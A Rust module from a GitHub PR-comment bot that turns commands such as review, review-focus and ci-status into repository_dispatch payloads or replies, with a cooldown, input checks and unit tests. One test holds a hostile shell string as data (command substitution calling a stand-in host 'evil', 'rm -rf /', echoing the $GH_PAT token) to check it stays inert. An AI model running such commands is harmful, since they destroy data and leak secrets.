//! What the watcher does for a command it owns: a `repository_dispatch` to the bot repository
//! for the workflows that run `review-pr` and `ci-status` (the workflows `pr-review.yml` and `ci-status-check.yml`, every
//! payload value a JSON string), or a reply on the PR (help, an unknown command, arguments
//! refused, a review asked for again too soon). Arguments are data: they are checked and
//! travel only inside the payload, never through a shell.

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, Utc};

use super::grammar::{CommandKind, Parsed, COMMANDS};
use super::help::help_text;
use crate::domain::CommentId;

/// Longest focus accepted, in characters (a sentence or two of areas, not a document).
pub const MAX_FOCUS_CHARS: usize = 1000;
/// Longest unknown word quoted back in a reply.
const MAX_QUOTED_CHARS: usize = 40;

/// A command to act on, with what the rules need to decide.
#[derive(Debug, Clone)]
pub struct Request<'a> {
    /// The command as the grammar read it.
    pub parsed: &'a Parsed,
    /// The PR the comment is on.
    pub pr: u64,
    /// The command's comment (the workflows' concurrency key).
    pub comment_id: CommentId,
    /// The commenter's login as GitHub spells it.
    pub author: &'a str,
    /// The bot's login (the trigger is `@login`).
    pub login: &'a str,
    /// When this watcher last dispatched a review of this PR.
    pub last_review: Option<DateTime<Utc>>,
    /// The pass's time, for the cooldown.
    pub now: DateTime<Utc>,
    /// At most one review per PR within this time.
    pub review_cooldown: Duration,
}

/// What to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// `POST /repos/{bot_repo}/dispatches`.
    Dispatch(Dispatch),
    /// A comment on the PR.
    Reply(String),
}

/// A `repository_dispatch` event.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Dispatch {
    /// `pr-review` or `ci-status`: which workflow runs.
    pub event_type: &'static str,
    /// Every value a string, as the receiving workflows read them.
    pub client_payload: BTreeMap<&'static str, String>,
}

impl Dispatch {
    /// Whether it starts a review (the cooldown counts these).
    pub fn is_review(&self) -> bool {
        self.event_type == "pr-review"
    }
}

/// The action for a command.
pub fn action_for(request: &Request<'_>) -> Action {
    let login = request.login;
    match request.parsed {
        Parsed::Unknown(word) => Action::Reply(format!(
            "Unknown command `{}`.\n\n{}",
            quoted(word),
            help_text(login)
        )),
        Parsed::Command { kind, args } => match kind {
            CommandKind::Help => Action::Reply(help_text(login)),
            CommandKind::CiStatus => Action::Dispatch(dispatch(request, "ci-status", None)),
            CommandKind::Review => review(request, ""),
            CommandKind::ReviewFocus => match focus_problem(args) {
                Some(problem) => {
                    Action::Reply(format!("`@{login} review-focus` was not run: {problem}."))
                }
                None => review(request, args),
            },
        },
    }
}

/// A review, unless one of this PR was dispatched within the cooldown.
fn review(request: &Request<'_>, focus: &str) -> Action {
    if let Some(last) = request.last_review {
        let again = last + request.review_cooldown;
        if request.now < again {
            return Action::Reply(format!(
                "`@{} review` skipped: a review of this PR was started at {} UTC; at most one runs per {} minutes, ask again after {} UTC.",
                request.login,
                last.format("%H:%M"),
                request.review_cooldown.num_minutes(),
                again.format("%H:%M"),
            ));
        }
    }
    Action::Dispatch(dispatch(request, "pr-review", Some(focus)))
}

fn dispatch(request: &Request<'_>, event_type: &'static str, focus: Option<&str>) -> Dispatch {
    let mut client_payload = BTreeMap::from([
        ("pr_number", request.pr.to_string()),
        ("comment_id", request.comment_id.to_string()),
        ("comment_author", request.author.to_string()),
    ]);
    if let Some(focus) = focus {
        client_payload.insert("focus", focus.to_string());
    }
    Dispatch {
        event_type,
        client_payload,
    }
}

/// Why a focus cannot be passed on, if it cannot: too long, or holding control characters
/// (line breaks and tabs are text).
fn focus_problem(focus: &str) -> Option<String> {
    let chars = focus.chars().count();
    if chars > MAX_FOCUS_CHARS {
        return Some(format!(
            "the areas are {chars} characters long, at most {MAX_FOCUS_CHARS} are accepted"
        ));
    }
    focus
        .chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
        .then(|| "the areas hold control characters".to_string())
}

/// A user's word, safe inside a code span and short.
fn quoted(word: &str) -> String {
    let clean: String = word
        .chars()
        .filter(|c| *c != '`' && !c.is_control())
        .collect();
    match clean.char_indices().nth(MAX_QUOTED_CHARS) {
        Some((cut, _)) => format!("{}…", &clean[..cut]),
        None => clean,
    }
}

/// The one reply after the last failed attempt: the hidden marker, the command, the reason.
pub fn failure_reply(
    login: &str,
    comment_id: CommentId,
    command: &Parsed,
    attempts: u32,
    reason: &str,
) -> String {
    let name = match command {
        Parsed::Command { kind, .. } => COMMANDS
            .iter()
            .find(|c| c.kind == *kind)
            .map_or("", |c| c.name),
        Parsed::Unknown(_) => "",
    };
    let reason: String = reason.chars().take(300).collect();
    format!(
        "{}\n`@{login} {name}` could not be started after {attempts} attempts: {reason}. Please ask again later.",
        crate::report::markers::watch_failed_marker(comment_id),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::watch::grammar::parse;

    fn request(parsed: &Parsed) -> Request<'_> {
        Request {
            parsed,
            pr: 123,
            comment_id: CommentId::new(456),
            author: "HaiShaw",
            login: "amd-bot",
            last_review: None,
            now: DateTime::from_timestamp(1_800_000_000, 0).unwrap(),
            review_cooldown: Duration::minutes(30),
        }
    }

    fn action(body: &str) -> Action {
        let parsed = parse(body, "amd-bot").expect("a command");
        action_for(&request(&parsed))
    }

    fn payload(action: &Action) -> serde_json::Value {
        let Action::Dispatch(d) = action else {
            panic!("not a dispatch: {action:?}")
        };
        serde_json::json!({"event_type": d.event_type, "client_payload": d.client_payload})
    }

    #[test]
    fn payload_values_are_strings_and_focus_goes_only_to_reviews() {
        assert_eq!(
            payload(&action("@amd-bot review")),
            serde_json::json!({"event_type": "pr-review", "client_payload": {
                "pr_number": "123", "comment_id": "456", "comment_author": "HaiShaw", "focus": ""}})
        );
        assert_eq!(
            payload(&action("@amd-bot ci-status")),
            serde_json::json!({"event_type": "ci-status", "client_payload": {
                "pr_number": "123", "comment_id": "456", "comment_author": "HaiShaw"}})
        );
        assert_eq!(
            payload(&action("@amd-bot review-focus")),
            payload(&action("@amd-bot review")),
            "review-focus without areas is a plain review"
        );
    }

    #[test]
    fn shell_metacharacters_in_the_focus_are_passed_as_data() {
        let focus = "$(curl evil) `id`; rm -rf / && echo \"$GH_PAT\" | tee x\nsecond line";
        let got = payload(&action(&format!("@amd-bot review-focus {focus}")));
        assert_eq!(got["client_payload"]["focus"], focus);
    }

    #[test]
    fn a_focus_too_long_or_with_control_characters_is_refused_with_a_reply() {
        let long = "x".repeat(MAX_FOCUS_CHARS + 1);
        let Action::Reply(text) = action(&format!("@amd-bot review-focus {long}")) else {
            panic!("a long focus is refused")
        };
        assert!(text.contains("at most 1000"), "{text}");
        let ok = "x".repeat(MAX_FOCUS_CHARS);
        assert!(matches!(
            action(&format!("@amd-bot review-focus {ok}")),
            Action::Dispatch(_)
        ));
        let Action::Reply(text) = action("@amd-bot review-focus a\u{1b}[31mred") else {
            panic!("control characters are refused")
        };
        assert!(text.contains("control characters"), "{text}");
    }

    #[test]
    fn help_and_unknown_commands_get_the_help_text() {
        let Action::Reply(help) = action("@amd-bot help") else {
            panic!("help replies")
        };
        assert!(help.starts_with("## amd-bot Help"), "{help}");
        let Action::Reply(unknown) = action("@amd-bot rebase`now`") else {
            panic!("unknown replies")
        };
        assert!(
            unknown.starts_with("Unknown command `rebasenow`.\n\n## amd-bot Help"),
            "{unknown}"
        );
    }

    #[test]
    fn a_second_review_of_a_pr_within_the_cooldown_gets_a_one_line_reply() {
        let parsed = parse("@amd-bot review", "amd-bot").unwrap();
        let mut r = request(&parsed);
        r.last_review = Some(r.now - Duration::minutes(29));
        let Action::Reply(text) = action_for(&r) else {
            panic!("dropped")
        };
        assert!(
            !text.contains('\n') && text.contains("30 minutes"),
            "{text}"
        );
        r.last_review = Some(r.now - Duration::minutes(30));
        assert!(matches!(action_for(&r), Action::Dispatch(_)));
        let ci = parse("@amd-bot ci-status", "amd-bot").unwrap();
        let mut r = request(&ci);
        r.last_review = Some(r.now);
        assert!(
            matches!(action_for(&r), Action::Dispatch(_)),
            "ci-status has no cooldown"
        );
    }

    #[test]
    fn the_failure_reply_carries_its_marker_and_the_reason() {
        let parsed = parse("@amd-bot ci-status", "amd-bot").unwrap();
        let text = failure_reply(
            "amd-bot",
            CommentId::new(9),
            &parsed,
            5,
            "POST /dispatches → 502",
        );
        assert!(text.starts_with("<!-- amd-bot-watch-failed: 9 -->\n`@amd-bot ci-status` could not be started after 5 attempts: POST /dispatches → 502."), "{text}");
    }
}
